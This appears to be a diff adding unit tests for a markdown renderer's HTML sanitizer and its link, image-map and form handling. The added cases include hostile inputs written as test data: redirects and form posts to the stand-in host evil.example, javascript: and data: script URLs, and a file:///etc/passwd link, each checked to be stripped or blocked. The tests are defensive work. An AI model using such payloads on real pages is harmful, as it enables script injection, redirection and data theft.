@@ -25,6 +25,14 @@ describe('renderMarkdown sanitizing', () => {
     ['<div style="position:fixed;inset:0">cover</div>', '[style]'],
     ['<svg><script>1</script><a xlink:href="javascript:1">y</a></svg>', 'script, [*|href^="javascript"]'],
     ['<div data-external="true" onclick="1">z</div>', '[onclick], div[data-external]'],
+    ['<meta http-equiv="refresh" content="0;url=https://evil.example/">', 'meta'],
+    ['<base href="https://evil.example/">[rel](page.html)', 'base'],
+    ['<link rel="prefetch" href="https://evil.example/">', 'link'],
+    ['<form action="https://evil.example"><button formaction="https://evil.example/b">go</button></form>', 'form, button, [formaction]'],
+    ['<map name="m"><area href="javascript:alert(1)" shape="rect" coords="0,0,9,9"></map>', 'area[href]'],
+    ['<map name="m"><area href="data:text/html,<script>1</script>"><area href="file:///etc/passwd"></map>', 'area[href]'],
+    ['<a href="data:text/html,<script>1</script>">d</a><a href="file:///etc/passwd">f</a>', 'a[href]'],
+    ['<map name="m"><area href="https://example.org/" target="_top"></map>', 'area[target]'],
   ])('%j renders without %s', (source, selector) => {
     const html = renderMarkdown(source);
     expect(dom(html).querySelector(selector)).toBeNull();
@@ -108,6 +116,67 @@ describe('Markdown component', () => {
     const events = links.map(click);
     expect(events.every((e) => e.defaultPrevented)).toBe(true);
     expect(open.mock.calls).toEqual([['https://example.org/review']]);
+  });
+
+  it('opens image-map areas like links: http(s) in the system browser, nothing else, never the window', () => {
+    const open = vi.fn();
+    (window as unknown as Record<string, unknown>).runtime = { BrowserOpenURL: open };
+    const el = mount(
+      '<img usemap="#m" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" width="20" height="20">' +
+        '<map name="m"><area shape="rect" coords="0,0,9,9" href="https://example.org/area">' +
+        '<area shape="rect" coords="10,0,19,9" href="http://example.org/plain">' +
+        '<area shape="rect" coords="0,10,9,19" href="other.html">' +
+        '<area shape="rect" coords="10,10,19,19" href="javascript:alert(1)"></map>',
+    );
+    const areas = Array.from(el.querySelectorAll('area'));
+    expect(areas).toHaveLength(4);
+    expect(areas[3]?.hasAttribute('href')).toBe(false); // the sanitizer dropped javascript:
+    // Hrefs a sanitizer bug could let through: none may open or navigate.
+    for (const href of ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd', ' JavaScript:alert(1)']) {
+      const area = document.createElement('area');
+      area.setAttribute('href', href);
+      el.querySelector('map')?.append(area);
+    }
+    const all = Array.from(el.querySelectorAll('area[href]'));
+    expect(all).toHaveLength(7);
+    const events = all.map(click);
+    expect(events.map((e) => e.defaultPrevented)).toEqual(all.map(() => true));
+    expect(open.mock.calls).toEqual([['https://example.org/area'], ['http://example.org/plain']]);
+  });
+
+  it('opens an area on a middle click but not on a right click', () => {
+    const open = vi.fn();
+    (window as unknown as Record<string, unknown>).runtime = { BrowserOpenURL: open };
+    const el = mount('<map name="m"><area shape="rect" coords="0,0,9,9" href="https://example.org/area"></map>');
+    const area = el.querySelector('area')!;
+    const aux = (button: number) => {
+      const ev = new MouseEvent('auxclick', { bubbles: true, cancelable: true, button });
+      act(() => {
+        area.dispatchEvent(ev);
+      });
+      return ev;
+    };
+    expect(aux(2).defaultPrevented).toBe(false);
+    expect(open).not.toHaveBeenCalled();
+    expect(aux(1).defaultPrevented).toBe(true);
+    expect(open.mock.calls).toEqual([['https://example.org/area']]);
+  });
+
+  it('never submits a form, even one the sanitizer missed, and opens nothing', () => {
+    const open = vi.fn();
+    (window as unknown as Record<string, unknown>).runtime = { BrowserOpenURL: open };
+    const el = mount('<form action="https://evil.example/collect"><input name="q"><button>Go</button></form>text');
+    expect(el.querySelector('form, input, button')).toBeNull();
+    const form = document.createElement('form');
+    form.setAttribute('action', 'https://evil.example/collect');
+    form.innerHTML = '<input name="q" value="secret"><button>Go</button>';
+    el.querySelector('.markdown')?.append(form);
+    const ev = new Event('submit', { bubbles: true, cancelable: true });
+    act(() => {
+      form.dispatchEvent(ev);
+    });
+    expect(ev.defaultPrevented).toBe(true);
+    expect(open).not.toHaveBeenCalled();
   });
 
   it('renders a sanitized payload inert', () => {
